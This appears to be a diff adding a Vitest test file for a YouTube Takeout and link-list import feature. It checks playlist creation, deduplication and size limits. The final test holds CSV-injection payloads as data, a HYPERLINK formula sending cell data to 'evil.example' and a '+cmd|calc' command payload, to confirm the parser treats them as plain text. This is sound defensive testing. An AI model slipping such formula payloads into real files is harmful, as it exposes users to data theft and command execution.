@@ -1,0 +1,107 @@
+// Ann brings a YouTube Takeout or a list of links: each video waits in a playlist and uses her allowance in its turn.
+import { zipSync } from 'fflate'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { LibraryImport } from '#contract/library-import.ts'
+import type { Playlist, PlaylistView } from '#contract/playlists.ts'
+import { newPerson, startTestServer, type TestServer } from '#tests/deps.ts'
+import { readVideoList } from './read-links.ts'
+
+let server: TestServer
+beforeAll(async () => {
+  server = await startTestServer({ environment: { SIGN_UPS_PER_HOUR: '1000' } })
+})
+afterAll(() => server.close())
+
+type Person = ReturnType<typeof newPerson>
+async function bring(person: Person, body: NonNullable<RequestInit['body']>, name: string): Promise<LibraryImport> {
+  const response = await person.send(`/api/import?name=${encodeURIComponent(name)}`, { method: 'POST', body })
+  expect(response.status).toBe(202)
+  const read = async () => (await (await person.send('/api/import')).json()) as LibraryImport
+  await expect.poll(async () => (await read()).state).toBe('done')
+  return read()
+}
+const listPlaylists = async (person: Person) =>
+  ((await (await person.send('/api/playlists?filter=mine')).json()) as { items: Playlist[] }).items
+
+const english =
+  'Video ID,Playlist Video Creation Timestamp\ndQw4w9WgXcQ,2024-01-02T10:00:00+00:00\njNQXAC9IVRw,2024-01-03T10:00:00+00:00\n'
+const german =
+  '\uFEFFVideo-ID,Zeitstempel der Erstellung des Playlist-Videos\r\ndQw4w9WgXcQ,2024-01-02T10:00:00+00:00\r\n'
+const older = [
+  'Playlist ID,Channel ID,Time Created,Time Updated,Title,Description,Visibility',
+  'PLbees12345,UCaaaaaaaaaaaaaaaaaaaaaa,2020-01-01 00:00:00 UTC,2020-01-01 00:00:00 UTC,"Bees, and ""more""",,Private',
+  '',
+  'Video ID,Time Added',
+  '  dQw4w9WgXcQ,2020-05-05 10:00:00 UTC  ',
+].join('\n')
+
+test.each([
+  ['English', english, 'Watch later-videos.csv', 'Watch later', 2],
+  ['German', german, 'Takeout/YouTube und YouTube Music/Playlists/Später ansehen-Videos.csv', 'Später ansehen', 1],
+  ['an older format', older, 'anything.csv', 'Bees, and "more"', 1],
+])('the videos of a Takeout in %s wait in a playlist with its name', async (_, csv, file, name, videos) => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  const done = await bring(ann, csv, file)
+  expect(done).toMatchObject({ source: 'takeout', counts: { videos, unreadable: 0 }, playlists: [{ name }] })
+  const view = (await (await ann.send(`/api/playlists/${done.playlists[0]!.id}`)).json()) as PlaylistView
+  expect(view).toMatchObject({ name, isPublic: false, imports: { length: videos } })
+  expect(view.imports[0]).toMatchObject({ videoId: 'dQw4w9WgXcQ' })
+})
+
+test('a ZIP of a Takeout becomes a playlist for each list', async () => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  const file = (text: string) => new TextEncoder().encode(text)
+  const packed = zipSync({
+    'Takeout/playlists/playlists.csv': file('Playlist ID,Title\nPLx,Bees'),
+    'Takeout/playlists/Watch later-videos.csv': file(english),
+    'Takeout/playlists/Music-videos.csv': file(english),
+    'Takeout/archive_browser.html': file('<html>https://youtu.be/dQw4w9WgXcQ</html>'),
+  })
+  expect((await bring(ann, packed as Uint8Array<ArrayBuffer>, 'takeout.zip')).source).toBe('takeout')
+  expect((await listPlaylists(ann)).map(({ name }) => name).sort()).toEqual(['Music', 'Watch later'])
+})
+
+test('a list of links waits in one playlist, each video once, and what is no video is named', async () => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  await ann.summarize({ video: 'dQw4w9WgXcQ' })
+  const links =
+    'https://youtu.be/dQw4w9WgXcQ\nLook: https://www.youtube.com/watch?v=jNQXAC9IVRw !\n\njNQXAC9IVRw\nhttps://example.org\n'
+  const { counts, playlists, source } = await bring(ann, links, 'links.txt')
+  expect({ source, ...counts }).toMatchObject({
+    source: 'links',
+    videos: 1,
+    alreadyHere: 1,
+    unreadable: 1,
+    unreadableNames: ['https://example.org'],
+  })
+  const view = (await (await ann.send(`/api/playlists/${playlists[0]!.id}`)).json()) as PlaylistView
+  expect(view.imports).toHaveLength(2)
+  expect(view.items.map(({ videoId }) => videoId)).toEqual(['dQw4w9WgXcQ'])
+  expect(view.imports.find(({ videoId }) => videoId === 'dQw4w9WgXcQ')?.state).toBe('done')
+})
+
+test('a long list is divided, and one that is too long is refused', async () => {
+  const ann = newPerson(server)
+  await ann.signUp()
+  const links = (count: number) =>
+    Array.from({ length: count }, (_, index) => `v${String(index).padStart(10, '0')}`).join('\n')
+  const { playlists } = await bring(ann, links(501), 'many.txt')
+  expect(playlists).toHaveLength(2)
+  expect(playlists[1]?.name).toBe(`${playlists[0]?.name} (2)`)
+  const refused = await ann.send('/api/import', { method: 'POST', body: links(5001) })
+  expect(refused.status).toBe(413)
+})
+
+test('formulas and markup in a CSV stay words', () => {
+  const harmful =
+    '=HYPERLINK("https://evil.example?v="&A1),2024-01-01T00:00:00Z\n+cmd|calc!A1,2024-01-01\n-dQw4w9WgXcQ,2024-01-01T00:00:00Z\n"dQw4w9WgXcQ",2024-01-01T00:00:00Z'
+  expect(readVideoList(harmful, '=1+1<b>-videos.csv')).toEqual({
+    isTakeout: true,
+    name: '=1+1<b>',
+    videoIds: ['dQw4w9WgXcQ'],
+    unreadable: [],
+  })
+})
